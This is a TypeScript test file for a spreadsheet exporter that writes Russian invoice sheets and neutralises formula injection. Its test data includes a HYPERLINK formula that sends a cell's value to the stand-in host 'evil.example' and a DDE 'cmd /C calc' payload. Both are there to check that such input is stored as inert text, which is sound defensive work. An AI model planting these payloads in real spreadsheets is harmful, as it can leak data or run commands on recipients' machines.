import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, writeXlsx } from './xlsx.ts';

async function readBack(buffer: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  return workbook;
}

describe('neutraliseFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Счёт")', '\'=HYPERLINK("http://evil.example/?"&A1,"Счёт")'],
    ['+A1', "'+A1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['ООО «Ромашка»', 'ООО «Ромашка»'],
    ['a=1', 'a=1'],
    ['+7 (495) 123-45-67', '+7 (495) 123-45-67'],
    ['-5', '-5'],
    ['-12,5', '-12,5'],
    ['', ''],
  ])('%j → %j', (text, safe) => {
    expect(neutraliseFormula(text)).toBe(safe);
  });
});

describe('writeXlsx', () => {
  it('writes Russian headers, typed numbers and dates, widths, and user text that never becomes a formula', async () => {
    const buffer = await writeXlsx([
      {
        name: 'Счета',
        columns: [
          { header: 'Номер счёта' },
          { header: 'Плательщик' },
          { header: 'Сумма, руб.', format: 'money' },
          { header: 'Позиций', format: 'integer' },
          { header: 'Выставлен', format: 'date' },
          { header: 'Комментарий', width: 30 },
        ],
        rows: [
          ['2026-000123', 'ООО «Северный склад»', 1500, 1, new Date('2026-11-23T21:30:00Z'), '=HYPERLINK("http://evil.example/?"&B2,"Оплачен")'],
          ['2026-000124', '@SUM(C2:C9)', 24_000.5, 2, new Date('2026-11-24T09:00:00Z'), '+7 (495) 123-45-67'],
          ['2026-000125', '-1+1', 0.1 + 0.2, 3, null, undefined],
        ],
      },
    ]);
    expect(buffer.subarray(0, 2).toString()).toBe('PK');

    const workbook = await readBack(buffer);
    const sheet = workbook.getWorksheet('Счета');
    expect(sheet).toBeDefined();
    if (!sheet) return;
    expect(sheet.getRow(1).values).toEqual([undefined, 'Номер счёта', 'Плательщик', 'Сумма, руб.', 'Позиций', 'Выставлен', 'Комментарий']);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });

    // No cell anywhere is a formula, and the formula-like texts are stored as apostrophe-prefixed strings.
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      }),
    );
    const formulaText = sheet.getCell('F2');
    expect(formulaText.type).toBe(ExcelJS.ValueType.String);
    expect(formulaText.value).toBe('\'=HYPERLINK("http://evil.example/?"&B2,"Оплачен")');
    expect(sheet.getCell('B3').value).toBe("'@SUM(C2:C9)");
    expect(sheet.getCell('B4').value).toBe("'-1+1");
    expect(sheet.getCell('F3').value).toBe('+7 (495) 123-45-67');

    // Numbers stay numbers with their formats; dates are dates (Moscow wall clock).
    expect(sheet.getCell('C2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getCell('C3').value).toBe(24_000.5);
    expect(sheet.getCell('C2').numFmt).toBe('#,##0.00');
    expect(sheet.getCell('D2').value).toBe(1);
    expect(sheet.getCell('D2').numFmt).toBe('0');
    expect(sheet.getCell('E2').type).toBe(ExcelJS.ValueType.Date);
    expect((sheet.getCell('E2').value as Date).toISOString()).toBe('2026-11-24T00:30:00.000Z');
    expect(sheet.getCell('E2').numFmt).toBe('dd.mm.yyyy');
    expect(sheet.getCell('E4').value).toBeNull();

    expect(sheet.getColumn(6).width).toBe(30);
    expect(sheet.getColumn(2).width).toBeGreaterThanOrEqual('ООО «Северный склад»'.length);
    expect(sheet.getColumn(4).width).toBeGreaterThanOrEqual(8);
  });

  it('names sheets as Excel allows them, each once', async () => {
    const workbook = await readBack(
      await writeXlsx([
        { name: 'Счета: ноябрь/декабрь [2026]', columns: [{ header: 'А' }], rows: [] },
        { name: 'Счета: ноябрь/декабрь [2026]', columns: [{ header: 'Б' }], rows: [] },
        { name: 'Очень длинное название листа отчёта о счетах', columns: [{ header: 'В' }], rows: [] },
      ]),
    );
    const names = workbook.worksheets.map((sheet) => sheet.name);
    expect(names[0]).toBe('Счета  ноябрь декабрь  2026');
    expect(names[1]).toBe('Счета  ноябрь декабрь  2026 2');
    expect(names[2]).toHaveLength(31);
  });

  it('refuses rows wider than the columns and numbers that are not finite', async () => {
    await expect(writeXlsx([{ name: 'Лист', columns: [{ header: 'А' }], rows: [['а', 'б']] }])).rejects.toThrow(RangeError);
    await expect(writeXlsx([{ name: 'Лист', columns: [{ header: 'А', format: 'money' }], rows: [[Number.NaN]] }])).rejects.toThrow(RangeError);
    await expect(writeXlsx([])).rejects.toThrow(RangeError);
  });
});
